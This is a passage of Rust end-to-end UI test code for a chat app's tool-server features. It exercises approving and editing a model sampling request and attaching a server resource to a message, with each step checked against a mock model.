    // Sampling: the request is shown (server, messages, limits); the text is edited and approved;
    // the completion runs on the chat's model, nested in the tool's card.
    app.send_message("Now have the server ask the model for something.").await?;
    ad_allow_tool(&app).await?;
    let sampling = tid("sampling-card");
    app.wait_for(
        "the sampling request in the tool's card",
        &format!("return !!document.querySelector('{} {sampling}');", tid("tool-card")),
        LONG,
    )
    .await?;
    app.screenshot("7-sampling-request").await?;
    app.click(&tid("sampling-edit")).await?;
    ad_type(&app, &tid("sampling-edit-input"), " Keep it short.").await?;
    app.click(&tid("sampling-approve")).await?;
    app.wait_for(
        "the completion nested in the card",
        &format!(
            "const r = document.querySelector('{} {}'); return !!r && r.textContent.includes('Cables hum at dusk');",
            tid("tool-card"),
            tid("agent-run")
        ),
        LONG,
    )
    .await?;
    ensure!(wait_assistant_settled(&app, 3, LONG).await? == "complete", "the answer with sampling failed");
    app.screenshot("8-sampling-approved").await?;
    let sampled = rig
        .mock
        .requests()
        .into_iter()
        .find(|r| serde_json::to_string(r.messages()).is_ok_and(|b| b.contains("context: Write a haiku")))
        .context("the sampling request never reached the model")?;
    let sent = serde_json::to_string(sampled.messages())?;
    ensure!(sent.contains("Keep it short."), "the edit was not sent: {sent}");

    // A resource attached from the picker: its chip names the URI; it is sent with the message.
    ad_type(&app, &tid("composer-input"), "What does this file say?").await?;
    // Attach a resource: the picker lists the server's resources; the chip names its URI and type.
    app.click(&tid("attach-resource")).await?;
    app.wait_for(
        "the server's resources",
        &format!("return document.querySelectorAll('{}').length > 0;", tid("resource-item")),
        LONG,
    )
    .await?;
    ad_type(&app, &tid("resource-filter"), "features.md").await?;
    app.screenshot("9-resource-picker").await?;
    app.keys(&Key::Enter.to_string()).await?;
    app.wait_for(
        "the resource's chip in the composer",
        &format!(
            "return [...document.querySelectorAll('{}')].some(c => (c.dataset.name || '').endsWith('features.md') && c.dataset.status === 'ready');",
            tid("attachment")
        ),
        LONG,
    )
    .await?;
    app.screenshot("10-resource-attached").await?;
    ensure!(ad_composer_text(&app).await? == "What does this file say?", "attaching changed the composer's text");
    app.click(&tid("send-button")).await?;
    ensure!(wait_assistant_settled(&app, 4, LONG).await? == "complete", "the answer with a resource failed");
    let last = serde_json::to_string(rig.mock.requests().last().context("no request")?.messages())?;
    ensure!(last.contains("features.md"), "the resource was not sent with the message: {last}");
    app.screenshot("11-resource-sent").await?;
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}
